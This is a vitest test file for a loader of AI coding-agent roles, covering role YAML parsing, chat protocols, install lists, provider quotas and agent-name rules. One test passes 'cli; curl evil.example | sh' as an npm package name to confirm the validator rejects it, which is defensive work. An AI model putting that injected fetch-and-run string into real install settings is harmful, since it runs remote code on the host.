import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { agentNameSchema } from '../src/core/fleet/agentName.js';
import { daemonOf, loadRoles, resolveArgv } from '../src/core/fleet/roles.js';
import { roleSections } from '../src/providers/index.js';
import { chatSections } from '../src/protocols/index.js';

describe('roles', () => {
  it('ships swe and another valid role whose agent script exists', () => {
    const roles = loadRoles('templates/roles', roleSections, chatSections);
    expect([...roles.keys()]).toEqual(expect.arrayContaining(['swe', 'research']));
    const swe = roles.get('swe')!;
    expect(daemonOf(swe)?.command).toEqual(['node', path.resolve('templates/agent/server.mjs')]);
    expect(swe.agent.healthPath).toBe('/health');
  });

  it('ships roles for coding agents that speak ACP, each naming its real entry point and secrets', () => {
    const roles = loadRoles('templates/roles', roleSections, chatSections);
    const chatOf = (name: string) => {
      const role = roles.get(name)!;
      return { command: role.chat?.command, secrets: role.agent.secrets.map((s) => s.name) };
    };
    expect(chatOf('claude-code')).toEqual({ command: ['claude-agent-acp'], secrets: ['ANTHROPIC_API_KEY'] });
    expect(chatOf('codex')).toEqual({ command: ['codex-acp'], secrets: ['OPENAI_API_KEY'] });
    expect(chatOf('gemini')).toEqual({ command: ['gemini', '--acp'], secrets: ['GEMINI_API_KEY'] });
    // OpenCode's own HTTP API gets a fresh password per process (no other process may drive it).
    expect(chatOf('opencode').command).toEqual([
      'sh',
      '-c',
      'export OPENCODE_SERVER_PASSWORD="$(head -c 24 /dev/urandom | base64)"; exec opencode acp',
    ]);
    // The coding CLIs run only when spoken to: nothing to keep running, no port.
    for (const name of ['claude-code', 'codex', 'gemini', 'opencode'])
      expect(daemonOf(roles.get(name)!), name).toBeUndefined();
    // What the golden image installs for each.
    expect(['claude-code', 'codex', 'gemini', 'opencode'].map((n) => roles.get(n)!.install.npm)).toEqual([
      ['@zed-industries/claude-agent-acp'],
      ['@zed-industries/codex-acp'],
      ['@google/gemini-cli'],
      ['opencode-ai'],
    ]);
    expect(roles.get('swe')!.install.npm).toEqual([]);
    expect(roles.get('research')!.chat).toBeUndefined();
  });

  it('takes a role without a daemon only when it can be talked to, and over a protocol that needs no port', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'roles-'));
    const load = (body: string) => {
      writeFileSync(path.join(dir, 'cli.yaml'), `name: cli\ndescription: x\n${body}`);
      return loadRoles(dir, roleSections, chatSections).get('cli')!;
    };
    const cli = load(
      'agent: { secrets: [{ name: CLI_KEY }] }\nchat: { protocol: acp, command: [cli, --acp] }\n',
    );
    expect(daemonOf(cli)).toBeUndefined();
    expect(cli.agent.secrets).toEqual([{ name: 'CLI_KEY', required: true }]);
    expect(daemonOf(load('chat: { protocol: acp, command: [cli] }\n'))).toBeUndefined();
    expect(() => load('agent: { env: { A: b } }\n')).toThrow(
      /cli\.yaml: agent\.command: a role needs a daemon \(agent\.command and agent\.port\) or a chat section/,
    );
    expect(() => load('agent: { command: [node] }\nchat: { protocol: acp, command: [cli] }\n')).toThrow(
      /cli\.yaml: agent: agent\.command and agent\.port go together/,
    );
    expect(() =>
      load("chat: { protocol: acp, command: [cli] }\ninstall: { npm: ['cli; curl evil.example | sh'] }\n"),
    ).toThrow(/cli\.yaml: install\.npm\.0: an npm package such as/);
    expect(() => load('chat: { protocol: openai }\n')).toThrow(
      /cli\.yaml: chat\.protocol: openai talks to the agent's own port, so the role needs agent\.command and agent\.port/,
    );
  });

  it('reads a chat section with its protocol’s fields and the common ones, refusing what does not fit', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'roles-'));
    const role = (chat: string) =>
      `name: talk\ndescription: x\nagent: { command: [node], port: 3100 }\nchat: ${chat}\n`;
    const load = (chat: string) => {
      writeFileSync(path.join(dir, 'talk.yaml'), role(chat));
      return loadRoles(dir, roleSections, chatSections).get('talk')!;
    };
    expect(load('{ protocol: openai, token: true, level: admin, idle: 5m }').chat).toEqual({
      protocol: 'openai',
      path: '/v1/chat/completions',
      token: true,
      silence: 300_000,
      level: 'admin',
      idle: 300_000,
    });
    const acp = load('{ protocol: acp, command: [./bin/agent, --acp] }');
    expect(acp.chat).toMatchObject({ level: 'operator', idle: 1_800_000 });
    expect(resolveArgv(acp, acp.chat!.command as string[])).toEqual([path.join(dir, 'bin/agent'), '--acp']);
    expect(() => load('{ protocol: telepathy }')).toThrow(/talk\.yaml: chat\.protocol: /);
    expect(() => load('{ protocol: acp, command: [x], comand: [y] }')).toThrow(
      /talk\.yaml: chat: Unrecognized key: "comand"/,
    );
    expect(() => load('{ protocol: openai, idle: soon }')).toThrow(
      /talk\.yaml: chat\.idle: a duration such as/,
    );
    expect(() => load('{ protocol: acp, command: [x], level: root }')).toThrow(/talk\.yaml: chat\.level: /);
  });

  it('names the file, field and problem of a broken role', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'roles-'));
    writeFileSync(
      path.join(dir, 'bad.yaml'),
      'name: Bad Role\ndescription: x\nagent: { command: [node], port: 80 }\n',
    );
    expect(() => loadRoles(dir, roleSections, chatSections)).toThrow(
      /bad\.yaml: name: role names are lowercase/,
    );
  });

  it('refuses a hetzner section whose own server type or location is not on its allowed lists', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'roles-'));
    const role = (hetzner: string) =>
      `name: quota\ndescription: x\nagent: { command: [node], port: 3100 }\nproviders:\n  hetzner: ${hetzner}\n`;
    writeFileSync(
      path.join(dir, 'quota.yaml'),
      role('{ serverType: cx53, location: nbg1, allowedTypes: [cx23] }'),
    );
    expect(() => loadRoles(dir, roleSections, chatSections)).toThrow(
      /quota\.yaml: .*serverType must be one of allowedTypes/,
    );
    writeFileSync(
      path.join(dir, 'quota.yaml'),
      role('{ serverType: cx23, location: hel1, allowedLocations: [nbg1] }'),
    );
    expect(() => loadRoles(dir, roleSections, chatSections)).toThrow(
      /quota\.yaml: .*location must be one of allowedLocations/,
    );
  });
});

describe('agent names', () => {
  const check = (name: string): string | undefined => {
    const r = agentNameSchema.safeParse(name);
    return r.success ? undefined : r.error.issues[0]?.message;
  };

  it('accepts DNS labels', () => {
    for (const good of ['alice', 'a1b', 'swe-2', 'x'.repeat(32)]) expect(check(good), good).toBeUndefined();
  });

  it('refuses what is not a DNS label, stating the rule', () => {
    for (const bad of ['ab', 'x'.repeat(33), '1abc', 'abc-', 'a_b', 'al ice', 'ålice', 'a.b', '']) {
      expect(check(bad), bad).toMatch(/3-32 characters: lowercase letters, digits and hyphens/);
    }
    expect(check('Alice')).toMatch(/Try alice\./);
  });

  it('refuses reserved names', () => {
    expect(check('admin')).toBe('"admin" is reserved; pick another agent name.');
    expect(check('www')).toMatch(/reserved/);
  });
});
